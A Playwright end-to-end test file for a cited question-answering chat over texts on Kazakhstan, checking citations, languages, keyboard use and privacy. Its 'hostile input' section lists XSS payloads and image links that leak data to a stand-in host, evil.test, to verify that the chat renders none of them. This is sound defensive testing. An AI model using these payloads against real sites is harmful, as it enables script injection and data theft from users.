"""People in the chat, in a real browser."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Sequence
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from kzqa.config import Config
from kzqa.domain import (
    Answer,
    Citation,
    Corpus,
    Kind,
    Narrowing,
    Paragraph,
    Source,
    Standing,
    Statement,
    StatementKind,
    Status,
)
from kzqa.interface import LANGUAGES, interface

from .conftest import Visit, running

ANSWER = "#kz-conversation figure.kz-statement"
FIELD = "#kz-question textarea"
OURS = {
    *(
        "div",
        "span",
        "p",
        "q",
        "a",
        "bdi",
        "blockquote",
        "figure",
        "figcaption",
        "strong",
        "small",
        "ul",
        "li",
    )
}
"""The elements that answers are made of."""


def test_a_question_is_answered_and_its_first_citation_opens_the_paragraph_in_its_text(
    site: str, visit: Callable[..., Visit], corpus: Corpus
) -> None:
    visitor = visit(site)
    visitor.ask("What happened to Bota Jardemalie?")
    link = visitor.page.locator(f"{ANSWER} a.kz-reference").first
    expect(link).to_contain_text("2021/2544(RSP), recital T")
    expect(link).to_have_attribute("href", "/texts/ep-2021-2544-rsp#recital-T")
    quote = visitor.page.locator(f"{ANSWER} q").first.text_content()
    assert quote
    assert quote in corpus.by_id["ep-2021-2544-rsp#recital-T"].text
    with visitor.context.expect_page() as opened:
        link.click(modifiers=["Control"])
    reader = opened.value
    reader.wait_for_load_state()
    target = reader.locator("#recital-T:target")
    expect(target).to_contain_text("Bota Jardemalie")
    expect(target).to_be_in_viewport()
    assert not visitor.complaints


def test_a_click_shows_the_passage_beside_the_answer_with_the_quoted_words_marked(
    site: str, visit: Callable[..., Visit]
) -> None:
    visitor = visit(site, viewport={"width": 1440, "height": 900})
    visitor.ask("What happened to Bota Jardemalie?")
    page = visitor.page
    quote = page.locator(f"{ANSWER} q").first.text_content()
    page.locator(f"{ANSWER} a.kz-reference").first.click()
    panel = page.get_by_role("complementary", name=interface("en")("passage"))
    expect(panel.locator("mark").first).to_be_visible()
    assert "".join(panel.locator("mark").all_text_contents()) == quote
    expect(panel).to_contain_text("Joint motion for a resolution")
    beside, answer = panel.bounding_box(), page.locator(ANSWER).first.bounding_box()
    assert beside
    assert answer
    assert beside["x"] >= answer["x"] + answer["width"]
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    expect(page.locator(f"{ANSWER} a.kz-reference").first).to_be_focused()


def test_on_a_phone_the_passage_is_below_and_nothing_scrolls_sideways(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site, viewport={"width": 320, "height": 640})
    visitor.ask("What is said about punitive psychiatry?")
    page = visitor.page
    page.locator(f"{ANSWER} a.kz-reference").first.click()
    expect(page.locator(".kz-panel mark").first).to_be_visible()
    for path in ("", "/texts", "/texts/ep-2013-2600-rsp"):
        if path:
            page.goto(site + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 320


@pytest.mark.parametrize(
    ("locale", "question"),
    [
        ("en-GB", "What is the national security certificate?"),
        ("ru-RU", "Что сказано о домашнем насилии?"),
        ("kk-KZ", "Өлім жазасын жою туралы не айтылған?"),
    ],
)
def test_the_page_speaks_the_browsers_language_and_answers_in_each(
    site: str, visit: Callable[..., Visit], locale: str, question: str
) -> None:
    visitor = visit(site, locale=locale)
    ui = interface(locale[:2])
    expect(visitor.page.get_by_role("heading", level=1)).to_have_text(ui("title"))
    expect(visitor.page.get_by_role("button", name=ui("send"), exact=True)).to_be_visible()
    expect(visitor.page.get_by_label(ui("question"), exact=True)).to_be_focused()
    visitor.ask(question)
    expect(visitor.page.locator(ANSWER).first).to_be_visible()
    assert not visitor.complaints


def test_the_language_can_be_switched_without_a_cookie(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    for language in LANGUAGES:
        visitor.page.locator(f".kz-languages a[lang={language}]").click()
        expect(visitor.page.get_by_role("heading", level=1)).to_have_text(interface(language)("title"))
        expect(visitor.page.locator(FIELD)).to_be_editable()
        assert visitor.page.evaluate("document.documentElement.lang") == language
    assert not visitor.context.cookies()


def test_switching_the_language_keeps_the_conversation_and_the_choice(
    site: str, visit: Callable[..., Visit], corpus: Corpus
) -> None:
    visitor = visit(site)
    page = visitor.page
    visitor.ask("What is said about punitive psychiatry?")
    visitor.answered()
    page.evaluate("window.same = true")
    page.locator("#kz-choose").click()
    page.locator("#kz-narrow input[value=recital]").check()
    page.locator("#kz-narrow button[value=choose]").click()
    shown = page.locator(ANSWER).first.text_content()
    for language in ("ru", "kk", "en"):
        ui = interface(language)
        page.locator(f".kz-languages a[lang={language}]").click()
        expect(page.get_by_role("heading", level=1)).to_have_text(ui("title"))
        expect(page.locator("#kz-question label > span").first).to_have_text(ui("question"))
        expect(page.locator(FIELD)).to_have_attribute("placeholder", ui("question_hint"))
        expect(page.locator("#kz-send")).to_have_text(ui("send"))
        expect(page.locator(".kz-actions [data-again]")).to_have_text(ui("ask_again"))
        expect(page.locator("#kz-chosen")).to_contain_text(f"{ui('only_from')} {ui('kind_recital')}")
        expect(page.locator(f".kz-languages a[lang={language}]")).to_have_attribute("aria-current", "true")
        expect(page).to_have_title(ui("title"))
        assert page.url == f"{site}/?lang={language}"
        assert page.locator(ANSWER).first.text_content() == shown
    visitor.ask("Who says it?")  # a follow-up: the server has the conversation too
    visitor.answered(2)
    assert page.evaluate("window.same")
    assert not visitor.context.cookies()
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert not visitor.complaints


def test_a_refusal_says_why_and_offers_the_nearest_paragraphs(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    visitor.ask("What is the capital of France?")
    page = visitor.page
    expect(page.locator("#kz-conversation .kz-reason")).to_contain_text(interface("en")("no_answer"))
    expect(page.locator(ANSWER)).to_have_count(0)
    expect(page.get_by_role("link", name=interface("en")("holds"))).to_be_visible()


def test_an_example_is_answered_by_a_click_and_focus_returns_to_the_field(
    site: str, visit: Callable[..., Visit]
) -> None:
    visitor = visit(site)
    visitor.page.get_by_role("button", name=interface("en")("example_3")).click()
    expect(visitor.page.locator(ANSWER).first).to_be_visible()
    expect(visitor.page.locator(FIELD)).to_be_focused()
    expect(visitor.page.locator(FIELD)).to_have_value("")


def test_everything_can_be_done_by_keyboard(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    page = visitor.page
    expect(page.locator(FIELD)).to_be_focused()
    page.keyboard.type("What is the national security certificate?")
    page.keyboard.press("Enter")
    expect(page.locator(ANSWER).first).to_be_visible()
    expect(page.locator(FIELD)).to_be_focused()
    for _ in range(20):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.matches('a.kz-cite')"):
            break
    page.keyboard.press("Enter")
    expect(page.locator(".kz-panel mark").first).to_be_visible()
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.matches('a.kz-cite')")


def test_starting_over_empties_the_conversation(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    visitor.ask("What is said about punitive psychiatry?")
    expect(visitor.page.locator(ANSWER).first).to_be_visible()
    visitor.page.get_by_role("button", name=interface("en")("clear")).click()
    expect(visitor.page.locator("#kz-conversation .message-row")).to_have_count(0)
    expect(visitor.page.get_by_role("button", name=interface("en")("example_1"))).to_be_visible()


def test_a_long_conversation_keeps_within_the_bodys_limit(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    for number in range(1, 6):
        visitor.ask(f"What is said about punitive psychiatry, and about lawyers? {number} " + "please " * 40)
        expect(visitor.page.locator("#kz-conversation .kz-answer")).to_have_count(number)
        expect(visitor.page.locator("#kz-conversation .kz-status")).to_have_count(0)
    assert not visitor.complaints


def test_a_whole_visit_talks_to_no_other_host_and_keeps_nothing(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    page = visitor.page
    rare = "Quokkamarzipan"
    visitor.ask(f"What does the text say about {rare}?")
    expect(page.locator("#kz-conversation .kz-answer")).to_be_visible()
    visitor.ask("What is said about punitive psychiatry?")
    expect(page.locator(ANSWER).first).to_be_visible()
    page.locator(f"{ANSWER} a.kz-reference").first.click()
    expect(page.locator(".kz-panel mark").first).to_be_visible()
    assert rare not in page.url
    kept = "JSON.stringify([{...localStorage}, {...sessionStorage}])"
    assert rare not in page.evaluate(kept)
    for path in ("/texts", "/texts/ngo-2012-appeal", "/nowhere"):
        page.goto(site + path)
    assert rare not in page.evaluate(kept)
    assert page.evaluate("indexedDB.databases().then(found => found.length)") == 0
    assert page.evaluate("caches.keys().then(found => found.length)") == 0
    assert not visitor.context.cookies()
    assert visitor.hosts() == {urlsplit(site).netloc}
    assert not [address for address in visitor.requests if rare in address]
    assert not [complaint for complaint in visitor.complaints if "404" not in complaint]


def test_the_texts_can_be_read_without_javascript(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(f"{site}/texts", java_script_enabled=False)
    page = visitor.page
    page.locator("a[href^='/texts/ep-2013-2600-rsp']").click()
    mark = page.locator("sup.kz-mark a").first
    mark.click()
    expect(page.locator("#footnote-1:target")).to_be_in_viewport()
    page.locator("#footnote-1 a.kz-back").click()
    expect(mark).to_be_in_viewport()
    chat = visit(site, java_script_enabled=False)
    expect(chat.page.locator("noscript a")).to_be_visible()


def test_a_word_is_found_in_a_text_and_a_reference_copied(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(f"{site}/texts/ep-2021-2544-rsp", permissions=["clipboard-read", "clipboard-write"])
    page = visitor.page
    page.get_by_label(interface("en")("find")).fill("JARDEMALIE")
    expect(page.locator("output")).to_have_text("1")
    page.keyboard.press("Enter")
    expect(page.locator("#recital-T")).to_be_in_viewport()
    page.locator("#recital-T").hover()
    page.locator("#recital-T .kz-copy").click()
    assert visitor.wait_for("navigator.clipboard.readText()") == (
        f"2021/2544(RSP), recital T\n{site}/texts/ep-2021-2544-rsp#recital-T"
    )
    assert not visitor.complaints


def test_a_question_lost_with_the_connection_is_said_and_the_conversation_goes_on(
    site: str, visit: Callable[..., Visit]
) -> None:
    visitor = visit(site)
    page = visitor.page
    visitor.ask("What is said about punitive psychiatry?")
    expect(page.locator(ANSWER).first).to_be_visible()
    visitor.answered()
    visitor.context.set_offline(True)
    visitor.ask("What happened to Bota Jardemalie?")
    expect(page.get_by_text(interface("en")("lost")).first).to_be_attached()
    expect(page.locator(FIELD)).to_have_value("What happened to Bota Jardemalie?")
    visitor.context.set_offline(False)
    page.locator(FIELD).press("Enter")
    expect(page.locator("#kz-conversation .message-row").last).to_contain_text("recital T")
    expect(page.locator("#kz-conversation .kz-question")).to_have_count(2)


# --- hostile input -----------------------------------------------------------------------------------

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=//evil.test/a onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "$$\\href{javascript:alert(1)}{x}$$ \\(a\\) $x$",
    '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
    "<gradio-app src='//evil.test'></gradio-app><kz-evil></kz-evil>",
    "![a](http://evil.test/a.png)",
    "![a][b]\n\n[b]: http://evil.test/b.png",
    "![a](http://evil.test/a.png?q=secret)",
    "<picture><source srcset=//evil.test/c></picture>",
    "<video src=//evil.test/v autoplay></video><audio src=//evil.test/a autoplay></audio>",
    "<div style='background:url(//evil.test/d)'>x</div><style>@import '//evil.test/e';</style>",
    "<link rel=stylesheet href=//evil.test/f><meta http-equiv=refresh content='0;url=//evil.test'>",
    "<object data=//evil.test/o></object><embed src=//evil.test/p>",
    "<form action=//evil.test><input name=q><button>go</button></form>",
    "<div style='position:fixed;inset:0;z-index:99999'>overlay</div>",
    "\u202egnirts\u202c \u200bzero\u200dwidth \u2066isolate",
    "# heading\n\n> quote\n\n- list\n\n1. number\n\n    code\n\n| a | b |\n|---|---|\n| c | d |",
    "www.evil.test and http://evil.test/auto and a@evil.test",
    "</div></div><h1>kzqa</h1>&lt;b&gt; &amp; &#60;b&#62; %ui.send% {{7*7}} ${7*7}",
)


def hostile(
    question: str, *, history: Sequence[str] = (), language: str | None = None, narrowing: Narrowing | None = None
) -> Answer:
    """An answer in which everything that a text or a person can write is the payload."""
    source = Source("bad", "bad.txt", question, question, question, 2020, "en", Standing.UNCONFIRMED, question)
    paragraph = Paragraph("bad", Kind.PARAGRAPH, "paragraph-1", "1", question, 0, (1, 1))
    corpus = Corpus((source,), (paragraph,), "0" * 16)
    words = (
        question,
        question,
        Standing.UNCONFIRMED,
        question,
        question,
        0,
        len(question),
        "/texts/bad#paragraph-1",
    )
    citation = Citation("bad#paragraph-1", "bad", "paragraph-1", *words)
    statements = tuple(Statement(question, kind, (citation.id,)) for kind in StatementKind)
    return Answer(
        question,
        "en",
        Status.PARTIAL,
        question,
        statements,
        (citation,),
        (paragraph.id,),
        (),
        corpus,
        {},
        question,
    )


@pytest.fixture(scope="module")
def hostile_site(config: Config, corpus: Corpus, chromium: Browser) -> Any:
    with running(config, corpus, hostile) as address:
        yield address


@pytest.mark.parametrize("payloads", [PAYLOADS[::2], PAYLOADS[1::2]], ids=["even", "odd"])
def test_nothing_that_a_person_or_a_text_writes_becomes_markup(
    hostile_site: str, visit: Callable[..., Visit], payloads: Sequence[str]
) -> None:
    visitor = visit(hostile_site)
    page = visitor.page
    for number, payload in enumerate(payloads, start=1):
        visitor.ask(payload)
        expect(page.locator("#kz-conversation .kz-nearest")).to_have_count(number)
        for shown in ("q", ".kz-question bdi"):
            last = f"[...document.querySelectorAll('#kz-conversation {shown}')].at(-1).textContent"
            visitor.wait_for(f"{last} === {json.dumps(payload)}")
    elements = page.evaluate(
        "[...document.querySelectorAll('#kz-conversation .message-content *')].map(e => e.localName)"
    )
    assert set(elements) <= OURS
    links = page.evaluate(
        "[...new Set([...document.querySelectorAll('#kz-conversation a')].map(e => e.getAttribute('href')))]"
    )
    assert links == ["/texts/bad#paragraph-1"]
    assert page.evaluate("[...document.querySelectorAll('#kz-conversation .message-content [style]')].length") == 0
    assert visitor.hosts() == {urlsplit(hostile_site).netloc}
    assert not visitor.complaints


def test_a_question_that_fails_is_told_so_and_the_next_one_is_answered(
    config: Config, corpus: Corpus, visit: Callable[..., Visit], capfd: pytest.CaptureFixture[str]
) -> None:
    def moody(
        question: str, *, history: Sequence[str] = (), language: str | None = None, narrowing: Narrowing | None = None
    ) -> Answer:
        if "Quokkamarzipan" in question:
            raise RuntimeError(question)
        return hostile(question)

    with running(config, corpus, moody) as address:
        visitor = visit(address)
        visitor.ask("Quokkamarzipan?")
        expect(visitor.page.locator(".kz-error")).to_contain_text(interface("en")("unavailable"))
        expect(visitor.page.locator(FIELD)).to_have_value("Quokkamarzipan?")
        visitor.ask("again")
        expect(visitor.page.locator("#kz-conversation q").first).to_have_text("again")
    said = "".join(capfd.readouterr())
    assert "Quokkamarzipan" not in said


def test_questions_sent_faster_than_they_are_answered_are_all_answered_in_order(
    config: Config, corpus: Corpus, visit: Callable[..., Visit]
) -> None:
    def slow(
        question: str, *, history: Sequence[str] = (), language: str | None = None, narrowing: Narrowing | None = None
    ) -> Answer:
        time.sleep(0.3)
        return hostile(question)

    with running(config, corpus, slow) as address:
        visitor = visit(address)
        page = visitor.page
        visitor.ask("first")
        expect(page.locator(FIELD)).to_have_value("")
        visitor.ask("second")
        expect(page.locator("#kz-conversation q").nth(1)).to_have_text("second")
        page.locator(FIELD).fill("third")
        page.get_by_role("button", name=interface("en")("send"), exact=True).click()
        page.locator(FIELD).press("Enter")  # impatience sends nothing twice
        visitor.answered(3)
        assert page.locator(".kz-question bdi").all_text_contents() == ["first", "second", "third"]
        expect(page.locator(FIELD)).to_have_value("")


def test_a_question_of_the_conversation_can_be_put_again_and_changed(site: str, visit: Callable[..., Visit]) -> None:
    visitor = visit(site)
    page = visitor.page
    visitor.ask("What is said about punitive psychiatry?")
    visitor.answered()
    page.get_by_role("button", name=interface("en")("ask_again")).click()
    expect(page.locator(FIELD)).to_have_value("What is said about punitive psychiatry?")
    expect(page.locator(FIELD)).to_be_focused()
    page.keyboard.press("End")
    page.keyboard.type(" And who says it?")
    page.keyboard.press("Enter")
    visitor.answered(2)
    expect(page.locator(".kz-question").last).to_have_text("What is said about punitive psychiatry? And who says it?")


def test_an_answer_can_be_stopped(config: Config, corpus: Corpus, visit: Callable[..., Visit]) -> None:
    def slow(
        question: str, *, history: Sequence[str] = (), language: str | None = None, narrowing: Narrowing | None = None
    ) -> Answer:
        if question == "slow":
            time.sleep(2)
        return hostile(question)

    with running(config, corpus, slow) as address:
        visitor = visit(address)
        visitor.ask("slow")
        visitor.page.get_by_role("button", name=interface("en")("stop")).click()
        expect(visitor.page.locator(".kz-status")).to_have_count(0)
        expect(visitor.page.locator(FIELD)).to_have_value("slow")
        visitor.ask("next")
        expect(visitor.page.locator("#kz-conversation q").first).to_have_text("next")
        expect(visitor.page.locator("#kz-conversation .kz-question")).to_have_count(1)
